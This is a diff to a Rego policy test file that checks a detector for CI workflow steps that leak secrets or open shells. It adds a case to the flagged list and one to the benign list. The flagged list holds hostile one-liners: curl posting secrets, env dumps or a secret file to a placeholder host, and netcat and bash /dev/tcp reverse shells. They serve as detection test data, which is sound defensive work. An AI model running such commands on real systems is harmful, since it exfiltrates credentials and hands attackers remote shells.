@@ -19,13 +19,13 @@ _script(facts) := object.union({"at": _run, "shell": "bash", "writes": [], "fetc
 _running(script) := _workflow({"on": "push", "jobs": {"build": {"steps": [{"name": "send", "run": script}]}}})
 
 test_sent if {
-	every script in ["curl -X POST -d 'k=${{ secrets.KEY }}' https://x", "env | base64 | curl -d @- x", "nc -e /bin/sh 10.1.2.3 99", "bash -i >& /dev/tcp/10.1.2.3/99"] {
+	every script in ["curl -X POST -d 'k=${{ secrets.KEY }}' https://x", "env | base64 | curl -d @- x", "curl --data '@.secret' https://x", "nc -e /bin/sh 10.1.2.3 99", "bash -i >& /dev/tcp/10.1.2.3/99"] {
 		count(rule.findings) == 1 with input as _running(script)
 	}
 }
 
 test_quiet if {
-	every script in ["curl -H 'Authorization: ${{ secrets.KEY }}' https://x", "nc -z localhost 5432", "env | sort"] {
+	every script in ["curl -H 'Authorization: ${{ secrets.KEY }}' https://x", "nc -z localhost 5432", "env | sort", "curl -d '{}' ${{ secrets.WEBHOOK }}"] {
 		count(rule.findings) == 0 with input as _running(script)
 	}
 }
